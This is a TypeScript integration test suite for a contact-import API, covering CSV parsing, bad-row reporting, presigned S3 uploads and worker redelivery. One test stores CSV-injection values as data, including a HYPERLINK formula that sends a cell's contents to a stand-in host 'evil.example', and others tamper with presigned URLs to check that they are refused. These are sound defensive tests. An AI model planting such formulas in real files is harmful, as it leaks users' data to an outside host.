/**
 * Contact imports (POST/GET /contacts/imports) over HTTP and through the official SDK's
 * `contacts.imports.*`: a CSV becomes contacts through the contact-imports worker, with the same
 * items and events as POST /contacts; bad rows are counted without failing the others; hostile
 * files are refused or kept as data; a file larger than a request goes through a presigned
 * upload (POST /contacts/imports/uploads), whose URL the local S3 stand-in checks as S3 does;
 * and a worker killed between two pages finishes on redelivery with no contact twice and none
 * lost. Each test works in a project of its own, so its counts are exact.
 */
import { CreateQueueCommand, DeleteQueueCommand, ReceiveMessageCommand, SQSClient } from '@aws-sdk/client-sqs';
import { Resend } from 'resend';
import { handler as importWorker } from '../../functions/workers/contact-imports';
import { invoke, workerFunction } from '../../local/lambda/invocation';
import { createImport, CONTINUE_MARGIN_MS } from '../../shared/audience/imports';
import { createUpload } from '../../shared/audience/import-file';
import { PAGE_ROWS } from '../../shared/audience/import-rows';
import { MAX_IMPORT_FILE_BYTES } from '../../shared/audience/imports-model';
import { presignPut } from '../../shared/platform/aws/s3';
import { installAwsCallChecker } from '../../shared/platform/aws/call-guard';
import * as keys from '../../shared/platform/db/keys';
import * as table from '../../shared/platform/db/table';
import { newId } from '../../shared/platform/ids';
import { baseUrl, request } from '../support/http';
import { sqsRecord } from '../support/sqs';
import { createOtherProject, projectEvents, useRuntimeTable } from '../support/table';
import { waitFor } from '../support/wait';
import { runtimeCredentials } from '../support/stand-ins';

const runtime = useRuntimeTable() as ReturnType<typeof useRuntimeTable> & { sqsEndpoint: string };

/** A multipart body as fetch would send the FormData (the SDK's own encoding). */
async function multipart(
  fields: Record<string, string | Blob>,
): Promise<{ raw: Buffer; headers: Record<string, string> }> {
  const form = new FormData();
  for (const [name, value] of Object.entries(fields)) form.append(name, value);
  const encoded = new Request('http://local/', { method: 'POST', body: form });
  return {
    raw: Buffer.from(await encoded.arrayBuffer()),
    headers: { 'content-type': encoded.headers.get('content-type')! },
  };
}
const csvFile = (text: string | Buffer) => new Blob([text], { type: 'text/csv' });
const postImport = async (key: string, fields: Record<string, string | Blob>) =>
  request('POST', '/contacts/imports', undefined, { key, ...(await multipart(fields)) });

const finished = (key: string, id: string) =>
  waitFor(
    () => request('GET', `/contacts/imports/${id}`, undefined, { key }),
    (r) => r.body?.status === 'completed' || r.body?.status === 'failed',
    120_000, // generous: a busy 2-core machine runs other suites beside this one
    200,
  ).then((r) => r.body);

/** A property as GET /contacts shows it: the value, or `{type, value}` where the project defines properties. */
const propertyValue = (p: unknown) =>
  p && typeof p === 'object' && 'value' in p ? (p as { value: unknown }).value : p;
const contactsOf = async (projectId: string) =>
  (await table.queryPage<Record<string, any>>(keys.contacts(projectId), { limit: 1000 })).items;

it('imports a few hundred rows through the SDK, with segments and topics, as POST /contacts would create them', async () => {
  const { projectId, key } = await createOtherProject();
  const resend = new Resend(key, { baseUrl: baseUrl() });
  const segment = (await resend.segments.create({ name: 'Imported' })).data!;
  const topic = (await resend.topics.create({ name: 'News', defaultSubscription: 'opt_out' })).data!;
  const rows = Array.from(
    { length: 300 },
    (_, i) => `person${i}@example.com,Ann ${i},Lee,${i % 2 ? 'true' : 'false'},${i}`,
  );
  const created = await resend.contacts.imports.create({
    file: csvFile(['Email Address,First,Last,Unsub,Score', ...rows].join('\r\n')),
    columnMap: {
      email: 'Email Address',
      firstName: 'First',
      lastName: 'Last',
      unsubscribed: 'Unsub',
      properties: { score: { column: 'Score', type: 'number' } },
    },
    segments: [{ id: segment.id }],
    topics: [{ id: topic.id, subscription: 'opt_in' }],
  });
  expect(created.error).toBeNull();
  expect(created.data).toEqual({ object: 'contact_import', id: expect.any(String) });

  const done = await finished(key, created.data!.id);
  expect(done).toMatchObject({
    object: 'contact_import',
    status: 'completed',
    completed_at: expect.any(String),
    counts: { total: 300, created: 300, updated: 0, skipped: 0, failed: 0 },
    failures: [],
  });
  const got = await resend.contacts.imports.get(created.data!.id);
  expect(got.data).toMatchObject({ id: created.data!.id, status: 'completed', counts: { total: 300, created: 300 } });
  const listed = await resend.contacts.imports.list({ status: 'completed' });
  expect(listed.data?.data.map((i) => i.id)).toEqual([created.data!.id]);
  expect((await resend.contacts.imports.list({ status: 'queued' })).data?.data).toEqual([]);

  const contacts = await contactsOf(projectId);
  expect(contacts).toHaveLength(300);
  expect(new Set(contacts.map((c) => c.email)).size).toBe(300);
  const one = (await resend.contacts.get({ email: 'person7@example.com' })).data!;
  expect(one).toMatchObject({
    first_name: 'Ann 7',
    last_name: 'Lee',
    unsubscribed: true,
    segment_ids: [segment.id],
    topics: [{ id: topic.id, subscription: 'opt_in' }],
  });
  expect(propertyValue(one.properties.score)).toBe(7);
  expect((await table.queryPage(keys.segmentMembers(projectId, segment.id), { limit: 1000 })).items).toHaveLength(300);
  const events = (await projectEvents(projectId, 1000)).filter(
    (e) =>
      e.event_type === 'contact.created' ||
      e.type_name === 'contact.created' ||
      JSON.stringify(e).includes('contact.created'),
  );
  expect(events.length).toBeGreaterThanOrEqual(300);
}, 180_000);

it('reports bad rows with their reason and imports the others; upsert updates an existing address, skip leaves it', async () => {
  const { projectId, key } = await createOtherProject();
  expect((await request('POST', '/contacts', { email: 'Known@Example.com', first_name: 'Old' }, { key })).status).toBe(
    201,
  );
  const csv = [
    'email,first_name,unsubscribed,plan',
    'good1@example.com,Good,false,pro',
    'not-an-address,Bad,false,pro', // row 2
    'good2@example.com,Good,maybe,pro', // row 3: not a boolean
    'known@example.com,New,,', // an existing address
    'good1@example.com,Again,,', // the same address twice in the file
    `long@example.com,${'x'.repeat(300)},,`, // row 6: a name over 256 characters
  ].join('\n');
  const columnMap = JSON.stringify({ properties: { plan: { column: 'plan' } } });
  const upsert = await postImport(key, { file: csvFile(csv), column_map: columnMap });
  expect(upsert).toMatchObject({ status: 201, body: { object: 'contact_import' } });
  const done = await finished(key, upsert.body.id);
  expect(done).toMatchObject({
    status: 'completed',
    counts: { total: 6, created: 1, updated: 2, skipped: 0, failed: 3 },
  });
  expect(done.failures.map((f: { row: number }) => f.row)).toEqual([2, 3, 6]);
  expect(done.failures[0]).toMatchObject({ email: 'not-an-address', reason: expect.stringContaining('email') });
  expect(done.failures[1].reason).toMatch(/unsubscribed: "maybe" is not a boolean/);
  const known = await request('GET', '/contacts/known@example.com', undefined, { key });
  expect(known.body).toMatchObject({ email: 'Known@Example.com', first_name: 'New' });
  const good1 = (await request('GET', '/contacts/good1@example.com', undefined, { key })).body;
  expect(good1).toMatchObject({ first_name: 'Again' });
  expect(propertyValue(good1.properties.plan)).toBe('pro');

  const skip = await postImport(key, {
    file: csvFile('email,first_name\nknown@example.com,Newer\nfresh@example.com,F\n'),
    on_conflict: 'skip',
  });
  expect(await finished(key, skip.body.id)).toMatchObject({
    status: 'completed',
    counts: { total: 2, created: 1, updated: 0, skipped: 1, failed: 0 },
  });
  expect((await request('GET', '/contacts/known@example.com', undefined, { key })).body).toMatchObject({
    first_name: 'New',
  });
  expect(await contactsOf(projectId)).toHaveLength(3); // known, good1, fresh
}, 180_000);

it('refuses hostile files and forms, naming the field, and keeps hostile values as data', async () => {
  const { projectId, key } = await createOtherProject();
  // not UTF-8 (Latin-1 é), no file, JSON that is not JSON, a column the file lacks, an unknown segment
  expect(
    await postImport(key, { file: csvFile(Buffer.from('email,first_name\ncaf\xe9@example.com,Ren\xe9\n', 'latin1')) }),
  ).toMatchObject({
    status: 422,
    body: { errors: [{ code: 'invalid_encoding', path: 'file' }] },
  });
  expect(await postImport(key, { on_conflict: 'skip' })).toMatchObject({
    status: 422,
    body: { errors: [{ path: 'file' }] },
  });
  expect(await postImport(key, { file: csvFile('email\na@example.com\n'), column_map: '{nope' })).toMatchObject({
    status: 422,
    body: { errors: [{ path: 'column_map' }] },
  });
  expect(await postImport(key, { file: csvFile('mail\na@example.com\n') })).toMatchObject({
    status: 422,
    body: { errors: [{ code: 'unknown_column', path: 'column_map.email' }] },
  });
  expect(
    await postImport(key, { file: csvFile('email\na@example.com\n'), segments: JSON.stringify([{ id: newId() }]) }),
  ).toMatchObject({
    status: 422,
    body: { errors: [{ code: 'unknown_segment', path: 'segments.0.id' }] },
  });
  expect(await postImport(key, { file: csvFile('email\na@example.com\n'), on_conflict: 'merge' })).toMatchObject({
    status: 422,
    body: { errors: [{ path: 'on_conflict' }] },
  });
  // over what a request may bring: 413 (the SDK cannot send more; a presigned upload is not here yet)
  // (Lambda's 6 MB event holds a multipart body base64-encoded: a bigger one is the gateway's 413, in its own form)
  const tooBig = await multipart({ file: csvFile(`email,note\na@example.com,${'y'.repeat(4.6 * 1024 * 1024)}\n`) });
  expect(
    (
      await fetch(`${baseUrl()}/contacts/imports`, {
        method: 'POST',
        headers: { ...tooBig.headers, authorization: `Bearer ${key}` },
        body: tooBig.raw,
      })
    ).status,
  ).toBe(413);
  // a JSON body is not the form the route reads
  expect(await request('POST', '/contacts/imports', { file: 'email\n' }, { key })).toMatchObject({
    status: 400,
    body: { errors: [{ code: 'unsupported_content_type' }] },
  });

  const formula = `=HYPERLINK("http://evil.example/?"&A1,"x")`;
  const csv = [
    '\ufeffemail,first_name,last_name,note', // a BOM before the header
    `formula@example.com,"${formula.replace(/"/g, '""')}",+SUM(1),@cmd`,
    '"quoted@example.com","Smith, Jane","O""Brien","line one\nline two"',
    `huge@example.com,Big,,${'z'.repeat(200 * 1024)}`, // one field of 200 KB: the row fails
    'after@example.com,After,,',
  ].join('\r\n');
  const created = await postImport(key, {
    file: csvFile(csv),
    column_map: JSON.stringify({ properties: { note: { column: 'note', type: 'string' } } }),
  });
  expect(created.status).toBe(201);
  const done = await finished(key, created.body.id);
  expect(done).toMatchObject({
    status: 'completed',
    counts: { total: 4, created: 3, failed: 1 },
    failures: [{ row: 3, email: 'huge@example.com', reason: 'the row is over 128 KiB' }],
  });
  // formula-looking cells are data: stored as the strings they are (the service never writes CSV)
  const formulaContact = (await request('GET', '/contacts/formula@example.com', undefined, { key })).body;
  expect(formulaContact).toMatchObject({ first_name: formula, last_name: '+SUM(1)' });
  expect(propertyValue(formulaContact.properties.note)).toBe('@cmd');
  // quoted fields keep their commas, doubled quotes and line breaks; the BOM did not become part of `email`
  const quoted = (await request('GET', '/contacts/quoted@example.com', undefined, { key })).body;
  expect(quoted).toMatchObject({ first_name: 'Smith, Jane', last_name: 'O"Brien' });
  expect(propertyValue(quoted.properties.note)).toBe('line one\nline two');
  expect((await request('GET', '/contacts/after@example.com', undefined, { key })).status).toBe(200);
  expect(await contactsOf(projectId)).toHaveLength(done.counts.created);
}, 180_000);

describe('a file larger than a request, uploaded', () => {
  const uploadFor = async (key: string, size: number) => {
    const answer = await request('POST', '/contacts/imports/uploads', { size }, { key });
    expect(answer).toMatchObject({
      status: 201,
      body: { object: 'upload', method: 'PUT', max_bytes: MAX_IMPORT_FILE_BYTES, size },
    });
    return answer.body as { id: string; upload_url: string; headers: Record<string, string>; expires_at: string };
  };
  const putFile = (upload: { upload_url: string; headers: Record<string, string> }, body: string | Buffer) =>
    fetch(upload.upload_url, { method: 'PUT', headers: upload.headers, body });
  const s3Code = async (response: Response) => ({
    status: response.status,
    code: /<Code>([^<]+)<\/Code>/.exec(await response.text())?.[1],
  });

  it('takes a CSV PUT to the presigned URL with plain fetch, bigger than any request, and imports it', async () => {
    const { projectId, key } = await createOtherProject();
    // 2,000 rows of 3.6 KB (a column the map does not name pads them): 7 MB, over Lambda's 6 MB request event
    const rows = 2000;
    const csv = [
      '\ufeffemail,first_name,padding',
      ...Array.from({ length: rows }, (_, i) => `big${i}@example.com,Big ${i},${'p'.repeat(3600)}`),
    ].join('\r\n');
    const upload = await uploadFor(key, Buffer.byteLength(csv));
    expect(upload.upload_url).toContain(`/imports/${projectId}/${upload.id}.csv?`);
    expect(Date.parse(upload.expires_at) - Date.now()).toBeGreaterThan(10 * 60_000);
    expect(Buffer.byteLength(csv)).toBeGreaterThan(6 * 1024 * 1024);
    expect((await putFile(upload, csv)).status).toBe(200);

    const created = await postImport(key, {
      upload_id: upload.id,
      column_map: JSON.stringify({ email: 'email', first_name: 'first_name' }),
    });
    expect(created).toMatchObject({ status: 201, body: { object: 'contact_import', id: upload.id } });
    expect(await finished(key, upload.id)).toMatchObject({
      status: 'completed',
      counts: { total: rows, created: rows, updated: 0, skipped: 0, failed: 0 },
      processed: rows,
    });
    expect(await table.countItems(keys.contacts(projectId))).toBe(rows);
    expect((await request('GET', '/contacts/big0@example.com', undefined, { key })).body).toMatchObject({
      first_name: 'Big 0',
    });
    expect((await request('GET', '/contacts/big1999@example.com', undefined, { key })).body).toMatchObject({
      first_name: 'Big 1999',
    });
    // an upload makes one import
    expect(await postImport(key, { upload_id: upload.id })).toMatchObject({
      status: 409,
      body: { errors: [{ code: 'upload_used', path: 'upload_id' }] },
    });
  }, 180_000);

  it("refuses an expired or tampered URL, a missing file, and another project's upload", async () => {
    const a = await createOtherProject();
    const b = await createOtherProject();
    const upload = await uploadFor(a.key, Buffer.byteLength('email\nshared@example.com\n'));
    // the size is signed: a body of another size is refused by S3, and a size past the limit by the request
    expect(await s3Code(await putFile(upload, 'email\nshared@example.com\nmore@example.com\n'))).toEqual({
      status: 403,
      code: 'SignatureDoesNotMatch',
    });
    expect(
      await request('POST', '/contacts/imports/uploads', { size: MAX_IMPORT_FILE_BYTES + 1 }, { key: a.key }),
    ).toMatchObject({ status: 422, body: { errors: [{ path: 'size' }] } });
    expect(await request('POST', '/contacts/imports/uploads', {}, { key: a.key })).toMatchObject({
      status: 422,
      body: { errors: [{ path: 'size' }] },
    });
    // the URL names one key of A's: pointed at another (B's prefix), or its expiry stretched, its signature no longer fits
    expect(
      await s3Code(
        await putFile({ ...upload, upload_url: upload.upload_url.replace(a.projectId, b.projectId) }, 'email\n'),
      ),
    ).toEqual({ status: 403, code: 'SignatureDoesNotMatch' });
    expect(
      await s3Code(
        await putFile(
          { ...upload, upload_url: upload.upload_url.replace(/X-Amz-Expires=\d+/, 'X-Amz-Expires=604800') },
          'email\n',
        ),
      ),
    ).toEqual({
      status: 403,
      code: 'SignatureDoesNotMatch',
    });
    // one signed as the service signs them, 20 minutes ago: expired
    const old = await presignPut(`imports/${a.projectId}/${upload.id}.csv`, {
      bucket: 'content',
      expiresInSeconds: 15 * 60,
      now: new Date(Date.now() - 20 * 60_000),
    });
    expect(await s3Code(await putFile({ ...upload, upload_url: old.upload_url }, 'email\n'))).toEqual({
      status: 403,
      code: 'AccessDenied',
    });
    // nothing was PUT yet: no file to import
    expect(await postImport(a.key, { upload_id: upload.id })).toMatchObject({
      status: 422,
      body: { errors: [{ code: 'unknown_upload', path: 'upload_id' }] },
    });

    expect((await putFile(upload, 'email\nshared@example.com\n')).status).toBe(200);
    // B naming A's upload finds nothing under its own project: as if it did not exist
    expect(await postImport(b.key, { upload_id: upload.id })).toMatchObject({
      status: 422,
      body: { errors: [{ code: 'unknown_upload', path: 'upload_id' }] },
    });
    expect(await postImport(a.key, { upload_id: upload.id, file: csvFile('email\n') })).toMatchObject({
      status: 422,
      body: { errors: [{ path: 'upload_id' }] },
    });
    const created = await postImport(a.key, { upload_id: upload.id });
    expect(created.status).toBe(201);
    expect(await finished(a.key, created.body.id)).toMatchObject({
      status: 'completed',
      counts: { total: 1, created: 1 },
    });
    expect(await contactsOf(b.projectId)).toEqual([]);
  }, 120_000);

  it('checks the header at the request and the rest in the worker, which fails the import with the reason', async () => {
    const { key } = await createOtherProject();
    const uploaded = async (body: string | Buffer) => {
      const upload = await uploadFor(key, Buffer.byteLength(body));
      expect((await putFile(upload, body)).status).toBe(200);
      return upload;
    };
    // the header is read by the request: not UTF-8, or a column the map names is missing -> 422
    expect(
      await postImport(key, { upload_id: (await uploaded(Buffer.from('\xe9mail\na@example.com\n', 'latin1'))).id }),
    ).toMatchObject({
      status: 422,
      body: { errors: [{ code: 'invalid_encoding', path: 'upload_id' }] },
    });
    expect(await postImport(key, { upload_id: (await uploaded('mail\na@example.com\n')).id })).toMatchObject({
      status: 422,
      body: { errors: [{ code: 'unknown_column', path: 'column_map.email' }] },
    });
    expect(
      await postImport(key, { upload_id: (await uploaded(`email,${'x'.repeat(70 * 1024)}\na@example.com,1\n`)).id }),
    ).toMatchObject({
      status: 422,
      body: { errors: [{ code: 'header_too_long' }] },
    });
    // past the header, the worker: a Latin-1 byte far down the file, an unclosed quote -> failed, with no row written
    const latin1 = await uploaded(
      Buffer.concat([
        Buffer.from(`email\n${'ok@example.com\n'.repeat(5000)}`),
        Buffer.from('caf\xe9@example.com\n', 'latin1'),
      ]),
    );
    expect((await postImport(key, { upload_id: latin1.id })).status).toBe(201);
    expect(await finished(key, latin1.id)).toMatchObject({
      status: 'failed',
      failure_reason: 'the file is not UTF-8 text',
      processed: 0,
      counts: { created: 0 },
    });
    const quote = await uploaded('email,first_name\na@example.com,"open\n');
    expect((await postImport(key, { upload_id: quote.id })).status).toBe(201);
    expect(await finished(key, quote.id)).toMatchObject({
      status: 'failed',
      failure_reason: expect.stringMatching(/^the file is not CSV: Quote Not Closed/),
    });
  }, 120_000);
});

describe('a worker killed half-way', () => {
  let sqs: SQSClient;
  let queueUrl: string;
  const saved = process.env.QUEUE_URL_CONTACT_IMPORTS;
  const checkNeeds = globalThis.__awsCallChecker;
  afterEach(() => installAwsCallChecker(checkNeeds));
  beforeAll(async () => {
    // a queue of this test's own, so the runtime's worker never sees these messages
    sqs = new SQSClient({ region: 'ap-southeast-2', endpoint: runtime.sqsEndpoint, credentials: runtimeCredentials() });
    queueUrl = (await sqs.send(new CreateQueueCommand({ QueueName: `contact-imports-${newId().slice(-12)}` })))
      .QueueUrl!;
    process.env.AWS_ENDPOINT_URL_SQS = runtime.sqsEndpoint;
    process.env.QUEUE_URL_CONTACT_IMPORTS = queueUrl;
  });
  afterAll(async () => {
    process.env.QUEUE_URL_CONTACT_IMPORTS = saved;
    await sqs.send(new DeleteQueueCommand({ QueueUrl: queueUrl }));
  });

  const file = (n: number) =>
    ['email,first_name', ...Array.from({ length: n }, (_, i) => `k${i}@example.com,K${i}`)].join('\n');
  const run = (message: object, handler = importWorker) =>
    invoke(workerFunction('contact-imports'), handler as never, {
      Records: [sqsRecord(newId(), JSON.stringify(message))],
    }) as Promise<{ batchItemFailures: unknown[] }>;

  it('finishes on redelivery with no contact twice and none lost', async () => {
    const { projectId } = await createOtherProject();
    const rows = PAGE_ROWS * 4 + 7;
    const { id } = await createImport(
      { projectId, livemode: true, permission: 'full_access' },
      { file: Buffer.from(file(rows)).toString('latin1') },
    );
    const message = { project_id: projectId, import_id: id };
    // the Lambda "dies" as it sends its third page (each page is one transaction): the pages in flight beside it
    // (written side by side) commit, the cursor is not moved (it moves every PROGRESS_PAGES pages)
    let transactions = 0;
    installAwsCallChecker((call) => {
      checkNeeds?.(call);
      if (call.operation === 'TransactWriteItemsCommand' && ++transactions === 3)
        throw new Error('the Lambda died here');
    });
    expect((await run(message)).batchItemFailures).toHaveLength(1);
    installAwsCallChecker(checkNeeds);
    // the other pages were in flight when it died: they land a moment later (on AWS too, or not at all)
    const before = await waitFor(
      async () => (await contactsOf(projectId)).length,
      (n) => n >= 2 * PAGE_ROWS,
      10_000,
    );
    expect(before).toBeLessThan(rows); // page 3 is not in
    expect(await table.getItem(keys.contactImport(projectId, id))).toMatchObject({
      status: 'in_progress',
      total: rows,
      processed: 0,
      created: 0,
    });

    // redelivery (twice: the second is a duplicate of a finished import and does nothing)
    expect((await run(message)).batchItemFailures).toEqual([]);
    expect((await run(message)).batchItemFailures).toEqual([]);
    expect(await table.getItem(keys.contactImport(projectId, id))).toMatchObject({
      status: 'completed',
      processed: rows,
      created: rows,
      updated: 0,
      failed: 0,
    });
    const contacts = await contactsOf(projectId);
    expect(contacts).toHaveLength(rows);
    expect(new Set(contacts.map((c) => c.email))).toEqual(
      new Set(Array.from({ length: rows }, (_, i) => `k${i}@example.com`)),
    );
    const created = (await projectEvents(projectId, 2000)).filter((e) => JSON.stringify(e).includes('contact.created'));
    expect(created).toHaveLength(rows);
  }, 120_000);

  it('fails an import whose uploaded file was PUT again after it was accepted (every read asks for its ETag)', async () => {
    const { projectId } = await createOtherProject();
    const caller = { projectId, livemode: true, permission: 'full_access' as const };
    // the same size both times (the size is signed)
    const upload = await createUpload(caller, { size: Buffer.byteLength('email\nfirst1@example.com\n') });
    const put = (body: string) => fetch(upload.upload_url, { method: 'PUT', headers: upload.headers, body });
    expect((await put('email\nfirst1@example.com\n')).status).toBe(200);
    const { id } = await createImport(caller, { upload_id: upload.id });
    expect((await put('email\nsecond@example.com\n')).status).toBe(200);
    expect((await run({ project_id: projectId, import_id: id })).batchItemFailures).toEqual([]);
    expect(await table.getItem(keys.contactImport(projectId, id))).toMatchObject({
      status: 'failed',
      failure_reason: 'the file was uploaded again after the import was created',
      created: 0,
    });
    expect(await contactsOf(projectId)).toEqual([]);
  }, 60_000);

  it('stops before the timeout and sends the message again (a continuation)', async () => {
    const { projectId } = await createOtherProject();
    const { id } = await createImport(
      { projectId, livemode: true, permission: 'full_access' },
      { file: Buffer.from(file(PAGE_ROWS * 3)).toString('latin1') },
    );
    await sqs.send(new ReceiveMessageCommand({ QueueUrl: queueUrl, MaxNumberOfMessages: 10, WaitTimeSeconds: 1 })); // the request's own message
    // the function has just over the margin left: it starts, and stops between pages once the margin is reached
    const shortLived = (event: never) =>
      importWorker(event, { getRemainingTimeInMillis: () => CONTINUE_MARGIN_MS + 1 });
    expect((await run({ project_id: projectId, import_id: id }, shortLived as never)).batchItemFailures).toEqual([]);
    const received = await sqs.send(
      new ReceiveMessageCommand({ QueueUrl: queueUrl, MaxNumberOfMessages: 10, WaitTimeSeconds: 2 }),
    );
    expect(received.Messages?.map((m) => JSON.parse(m.Body!))).toEqual([{ project_id: projectId, import_id: id }]);
    expect(await table.getItem(keys.contactImport(projectId, id))).toMatchObject({
      status: 'in_progress',
      total: PAGE_ROWS * 3,
    });
    expect((await run({ project_id: projectId, import_id: id })).batchItemFailures).toEqual([]);
    expect(await table.getItem(keys.contactImport(projectId, id))).toMatchObject({
      status: 'completed',
      created: PAGE_ROWS * 3,
    });
  }, 120_000);
});
